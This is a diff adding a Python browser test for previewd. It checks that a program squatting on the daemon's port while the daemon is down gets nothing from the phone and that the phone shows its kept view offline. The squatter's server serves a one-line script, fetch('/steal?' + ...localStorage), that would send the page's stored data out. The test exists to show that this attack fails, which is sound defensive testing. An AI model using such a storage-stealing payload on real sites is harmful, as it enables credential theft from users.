@@ -294,3 +294,62 @@ def test_the_dashboard_offers_the_authority_with_its_fingerprint(secure_daemon, 
                                  " return [r.left, r.right, innerWidth]")
     assert box[0] >= 0 and box[1] <= box[2], f"the panel leaves the window: {box}"
     browser.save_screenshot(str(tmp_path / "trust-panel.png"))
+
+
+def test_a_stranger_serving_the_port_while_previewd_is_down_gets_nothing(secure_daemon, phones, tmp_path):
+    """Port squatting (Security.md): another program takes previewd's port while it is stopped. Over HTTPS it has
+    no certificate the phone trusts, so its page never runs in previewd's origin and never sees the credential;
+    the phone shows the kept device view, offline."""
+    import http.server
+    import threading
+
+    daemon = secure_daemon
+    phone = phones(daemon)
+    phone.get(secure_url(daemon, f"/device#token={daemon.token}"))
+    wait_until(lambda: showing(phone, GREETING, PHONE), 90, "the phone showing a frame over HTTPS")
+    wait_until(lambda: controlled_by_service_worker(phone), 30, "the Service Worker controlling the page")
+    # Right after pairing, without another load while previewd runs: the files of this first load are kept.
+    wait_until(lambda: phone.execute_script("return window.previewdOffline.kept"), 30, "this load's files kept")
+    kept_hash = page_state(phone)["shown"]["hash"]
+    wait_until(lambda: phone.execute_async_script(KEPT_FRAME_JS) == kept_hash, 10, "the frame kept in IndexedDB")
+    daemon.kill()
+
+    # The stranger's server: a certificate for 127.0.0.1 of its own making, and a page that would send the
+    # origin's storage home.
+    key, certificate = tmp_path / "stranger.key", tmp_path / "stranger.crt"
+    assert openssl("req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "1",
+                   "-subj", "/CN=127.0.0.1", "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key),
+                   "-out", str(certificate)).returncode == 0
+    requests = []
+
+    class Stranger(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            requests.append(self.path)
+            body = b"<script>fetch('/steal?' + encodeURIComponent(JSON.stringify(localStorage)))</script>"
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer((daemon.host, daemon.port), Stranger)
+    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    context.load_cert_chain(str(certificate), str(key))
+    server.socket = context.wrap_socket(server.socket, server_side=True)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        phone.refresh()
+
+        def offline_with_frame():
+            state = page_state(phone)
+            return state and state["status"] == "offline" and (state.get("shown") or {}).get("fromStorage") and state
+
+        wait_until(offline_with_frame, 30, "the kept device view, offline, with the stranger on the port")
+        assert page_state(phone)["shown"]["hash"] == kept_hash
+        assert requests == [], f"the stranger's server was asked for {requests}"
+    finally:
+        server.shutdown()
+        server.server_close()
